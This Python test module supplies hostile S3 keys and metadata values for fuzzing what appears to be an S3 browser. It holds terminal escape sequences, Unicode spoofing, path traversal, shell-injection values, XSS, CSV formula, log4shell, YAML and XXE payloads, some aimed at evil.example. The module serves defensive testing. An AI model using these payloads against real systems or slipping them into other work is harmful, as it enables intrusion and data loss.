"""Names and values that try to break out: of a terminal, a folder, a table, a page, a file format.

``KEYS`` are S3 keys (any UTF-8 of up to 1,024 bytes), each by a short name that says what it tries; ``VALUES`` are
texts for metadata, tags and names. ``keys()`` and ``texts()`` are hypothesis strategies for more of their kind.
"""

from __future__ import annotations

import re
import string
import unicodedata
from collections.abc import Iterator
from itertools import chain

from hypothesis import strategies as st

MARK = "\x1b[58;5;199m"
"""A harmless escape sequence that no face of ours sends, so that it is foreign wherever it is found."""

ESCAPES = {
    "colour": MARK + "pink",
    "colour without end": "\x1b[31;1;5;7mred",
    "window title": "\x1b]0;stackpane-was-here\x07",
    "window title, ST": "\x1b]2;stackpane-was-here\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4K\x07",
    "hyperlink": "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "notification": "\x1b]9;stackpane-was-here\x07",
    "working folder": "\x1b]7;file://evil.example/\x07",
    "image": "\x1b]1337;File=inline=1:AAAA\x07",
    "device control": "\x1bP$q\"p\x1b\\",
    "privacy message": "\x1b^secret\x1b\\",
    "application command": "\x1b_Gf=100;AAAA\x1b\\",
    "start of string": "\x1bXhidden\x1b\\",
    "clear screen": "\x1b[2J\x1b[H",
    "alternate screen": "\x1b[?1049h",
    "mouse reports": "\x1b[?1003h\x1b[?1006h",
    "bracketed paste": "\x1b[?2004l",
    "cursor up and erase": "\x1b[1A\x1b[2Khidden line",
    "scroll region": "\x1b[5;6r",
    "device status": "\x1b[6n",
    "device attributes": "\x1b[c",
    "answerback": "\x05",
    "reset": "\x1bc",
    "line drawing": "\x1b(0lqk",
    "soft reset": "\x1b[!p",
    "repeat": "x\x1b[999999b",
    "lone escape": "end\x1b",
    "C1 CSI": "\u009b31mred",
    "C1 OSC": "\u009d0;stackpane-was-here\u009c",
    "C1 DCS": "\u0090q\u009c",
    "C1 next line": "one\u0085two",
    "bell": "ding\x07",
    "backspaces": "safe\x08\x08\x08\x08evil",
    "carriage return": "evil\rsafe",
    "shift out": "\x0eqqq\x0f",
    "delete": "a\x7fb",
    "vertical tab, form feed": "a\x0bb\x0cc",
    "XOFF": "a\x13b",
    "end of file": "a\x04b\x1ac",
}  # fmt: skip
"""Terminal control sequences (ECMA-48, xterm's control sequences)."""

UNICODE = {
    "right-to-left override": "cod\u202egpj.exe",
    "left-to-right override": "\u202dabc",
    "embedding": "\u202babc\u202c",
    "isolates": "a\u2067b\u2069c",
    "arabic letter mark": "a\u061cb",
    "zero-width space": "a\u200bb",
    "zero-width joiner": "a\u200db",
    "word joiner": "a\u2060b",
    "byte order mark": "\ufeffa",
    "soft hyphen": "a\u00adb",
    "line separator": "a\u2028b",
    "paragraph separator": "a\u2029b",
    "no-break space": "a\u00a0b",
    "ideographic space": "a\u3000b",
    "variation selector": "a\ufe0fb",
    "tag characters": "a\U000e0041\U000e007f",
    "noncharacter": "a\uffffb",
    "replacement character": "a\ufffdb",
    "private use": "a\ue000b",
    "combining storm": "Z" + "\u0351\u0302\u0489" * 20,
    "wide": "日本語ファイル",
    "emoji family": "👩\u200d👩\u200d👧\u200d👦",
    "flags": "🇩🇪🇫🇷",
    "astral": "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    "hebrew": "שלום.txt",
    "composed": unicodedata.normalize("NFC", "Ame\u0301lie"),
    "decomposed": unicodedata.normalize("NFD", "Amélie"),
    "hangul composed": "각",
    "hangul decomposed": unicodedata.normalize("NFD", "각"),
    "ligature": "ﬁle",
    "plain fi": "file",
    "dotless i": "ıstanbul",
    "dotted I": "İSTANBUL",
    "sharp s": "straße",
    "capital sharp s": "STRASSE",
    "kelvin sign": "\u212aelvin",
    "fullwidth slash": "a\uff0fb",
    "division slash": "a\u2215b",
    "fullwidth dots": "\uff0e\uff0e/x",
    "one dot leader": "\u2024\u2024/x",
}
"""What is not what it seems, or is invisible."""

TRAVERSAL = {
    "parent": "../escaped",
    "parents": "../../../../../../../../tmp/stackpane-escaped",
    "parent within": "a/../../escaped",
    "parent that stays": "a/b/../c",
    "parent at the end": "a/..",
    "only parent": "..",
    "only dot": ".",
    "dot part": "./a",
    "dot within": "a/./b",
    "three dots": "a/.../b",
    "dots and space": "a/.. /b",
    "absolute": "/etc/stackpane-escaped",
    "absolute, twice": "//etc/stackpane-escaped",
    "backslash parent": "..\\escaped",
    "backslash parents": "..\\..\\..\\escaped",
    "mixed parents": "a/..\\../escaped",
    "backslash": "a\\b",
    "backslash at the end": "a\\",
    "drive": "C:\\Windows\\stackpane-escaped",
    "drive, slash": "C:/Windows/stackpane-escaped",
    "drive, relative": "C:escaped",
    "UNC": "\\\\evil.example\\share\\file",
    "UNC, slash": "//evil.example/share/file",
    "device path": "\\\\.\\PhysicalDrive0",
    "long path": "\\\\?\\C:\\escaped",
    "encoded parent": "%2e%2e/escaped",
    "encoded slash": "..%2fescaped",
    "encoded twice": "%252e%252e%252fescaped",
    "encoded backslash": "..%5cescaped",
    "overlong encoding, written out": "..%c0%afescaped",
    "encoded NUL": "a%00b",
    "home": "~/escaped",
    "other home": "~root/escaped",
    "variable": "$HOME/escaped",
    "Windows variable": "%USERPROFILE%/escaped",
    "file URL": "file:///etc/passwd",
    "S3 URI": "s3://other-bucket/key",
    "stream": "file.txt:hidden",
    "stream, data": "file.txt::$DATA",
}
"""Ways out of a folder: POSIX, Windows, encoded."""

SHAPES = {
    "leaf": "twin",
    "folder of the same name": "twin/",
    "below the same name": "twin/child",
    "below, deeper": "twin/child/grandchild",
    "lower case": "case/readme",
    "upper case": "case/README",
    "mixed case": "Case/ReadMe",
    "empty part": "a//b",
    "empty parts": "a///b",
    "leading slash": "/a",
    "only slash": "/",
    "only slashes": "///",
    "trailing slash": "a/b/c/",
    "trailing slashes": "a//",
    "deep": "/".join(["d"] * 300),
    "1,024 bytes": "x" * 1024,
    "1,024 bytes in folders": "/".join(["y" * 100] * 10)[:1024],
    "1,024 bytes of wide characters": "語" * 341 + "x",
    "255 bytes": "x" * 255,
    "256 bytes": "x" * 256,
    "255 characters, more bytes": "ü" * 255,
    "folder of 256 bytes": "z" * 256 + "/a",
    "many dots": "." * 200,
}  # fmt: skip
"""Keys that are each harmless, but do not fit beside each other, or into a file system."""

NAMES = {
    "space": " ",
    "spaces": "   ",
    "leading space": " a",
    "trailing space": "a ",
    "trailing dot": "a.",
    "trailing dots": "a...",
    "folder with trailing dot": "a./b",
    "folder with trailing space": "a /b",
    "hidden": ".hidden",
    "partial": "file.part",
    "backup": "file~",
    "newline": "one\ntwo",
    "newlines": "\n\n",
    "crlf": "one\r\ntwo",
    "tab": "one\ttwo",
    "colon": "a:b",
    "question mark": "a?b=c",
    "hash": "a#b",
    "ampersand": "a&b=c",
    "plus": "a+b c",
    "percent": "100%",
    "percent sequence": "a%20b",
    "bad percent": "a%zzb",
    "stars": "*",
    "glob": "a*b?[c]",
    "braces": "{a,b}",
    "quotes": "a\"b'c`d",
    "angle brackets": "a<b>c",
    "pipe": "a|b",
    "shell": "$(touch stackpane-escaped)",
    "backticks": "`touch stackpane-escaped`",
    "semicolon": "a; touch stackpane-escaped",
    "option": "-rf",
    "long option": "--delete",
    "at": "@file",
    "equals": "a=b",
    "null": "null",
    "none": "None",
    "true": "true",
    "number": "007",
    "exponent": "1e999",
    "date": "2026-01-01",
    "format": "{0} {key!r} %s %n",
    "template": "{{7*7}}${7*7}<%= 7*7 %>",
    "log4shell": "${jndi:ldap://evil.example/a}",
    "sql": "'; DROP TABLE objects; --",
    "yaml": "!!python/object/apply:os.system ['true']",
    "yaml document": "--- a",
    "json": "{\"a\": 1}",
    "xml": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
    "xml entity": "&lt;&amp;&#x1b;",
    "cdata": "]]>",
    "markup": "[red]a[/]",
    "closing markup": "[/]",
    "bold markup": "[bold]a[/bold]",
    "markup link": "[link=http://evil.example]a[/link]",
    "markup action": "[@click=app.quit]a[/]",
    "markdown": "[a](http://evil.example) ![b](http://evil.example)",
}  # fmt: skip
"""What shells, file systems, formats and templates read more into."""

RESERVED = {
    f"reserved: {name}": name
    for name in (
        "CON",
        "con.txt",
        "PRN",
        "AUX",
        "NUL",
        "nul.tar.gz",
        "COM1",
        "COM¹",
        "LPT9",
        "CONIN$",
        "folder/AUX/file",
    )
} | {"apple metadata": "._file", "desktop.ini": "desktop.ini", "recycle bin": "$RECYCLE.BIN/a"}
"""Names that Windows (and others) keep for themselves."""

HTML = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "attribute": "\" onmouseover=\"alert(1)",
    "attribute, single": "' autofocus onfocus='alert(1)",
    "javascript URL": "javascript:alert(1)",
    "data URL": "data:text/html,<script>alert(1)</script>",
    "comment": "--><script>alert(1)</script>",
    "end tag": "</title></textarea></script><script>alert(1)</script>",
    "style": "<style>@import'http://evil.example'</style>",
    "base": "<base href=//evil.example>",
    "template literal": "`${alert(1)}`",
}  # fmt: skip
"""What a browser may run."""

FORMULAS = {
    "equals": "=1+1",
    "command": "=cmd|' /C calc'!A0",
    "hyperlink": "=HYPERLINK(\"http://evil.example\",\"a\")",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "quote": "\"=1+1",
    "comma": ",=1+1",
    "separator": ";=1+1",
    "full width": "＝1+1",
}  # fmt: skip
"""What a spreadsheet may run (OWASP, CSV injection)."""


def _named(group: str, values: dict[str, str]) -> Iterator[tuple[str, str]]:
    return ((f"{group}: {name}", value) for name, value in values.items())


VALUES: dict[str, str] = dict(
    chain(
        _named("escape", ESCAPES), _named("unicode", UNICODE), _named("name", NAMES), _named("html", HTML),
        _named("formula", FORMULAS),
    )
)  # fmt: skip
"""Hostile texts for anything that is shown: metadata, tags, names, error messages."""

KEYS: dict[str, str] = VALUES | dict(
    chain(_named("path", TRAVERSAL), _named("shape", SHAPES), _named("reserved", RESERVED), [("NUL", "a\x00b")])
)
"""Hostile S3 keys; each is legal: 1 to 1,024 bytes of UTF-8."""


def storable(key: str, emulator: str) -> bool:
    """Whether ``moto`` or ``ministack`` stores the key, as AWS would: moto finds no route for one with a line feed."""
    return emulator != "moto" or "\n" not in key


def in_xml(text: str) -> bool:
    """Whether XML 1.0 has a way to write the text: S3 lists other keys with ``encoding-type=url`` only."""
    return not _NOT_XML.search(text)


_NOT_XML = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
_NASTY = st.sampled_from(sorted({*VALUES.values(), *TRAVERSAL.values(), *RESERVED.values()}))
_PARTS = st.sampled_from(
    ["/", "//", "..", ".", "\\", ":", "%", "%2f", "\x1b", "\x1b[", "\x00", "\n", "\u202e", "~", " ", ""]
)
_TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=12)


def texts(max_bytes: int = 2048) -> st.SearchStrategy[str]:
    """Hostile texts and pieces of them, mixed with any others; at most ``max_bytes`` of UTF-8, never empty."""
    pieces = st.lists(st.one_of(_TEXT, _PARTS, _NASTY), min_size=1, max_size=5).map("".join)
    return st.one_of(_NASTY, pieces).map(lambda text: _shortened(text, max_bytes)).filter(bool)


def keys() -> st.SearchStrategy[str]:
    """Hostile S3 keys: 1 to 1,024 bytes of UTF-8."""
    return texts(1024)


def metadata() -> st.SearchStrategy[dict[str, str]]:
    """User metadata as S3 takes it: names are HTTP tokens in lower case, values printable ASCII, 2 KB in all.

    S3 returns what is beyond ASCII as RFC 2047 words, so hostile values are those that ASCII can say.
    """
    name = st.text(string.ascii_lowercase + string.digits + "-_.", min_size=1, max_size=20)
    ascii_values = sorted(value for value in VALUES.values() if value.isascii() and value.isprintable())
    value = st.one_of(st.sampled_from(ascii_values), st.text(string.printable[:94], max_size=40)).map(str.strip)
    return st.dictionaries(name, value, max_size=5)


def _shortened(text: str, max_bytes: int) -> str:
    return text.encode()[:max_bytes].decode(errors="ignore")
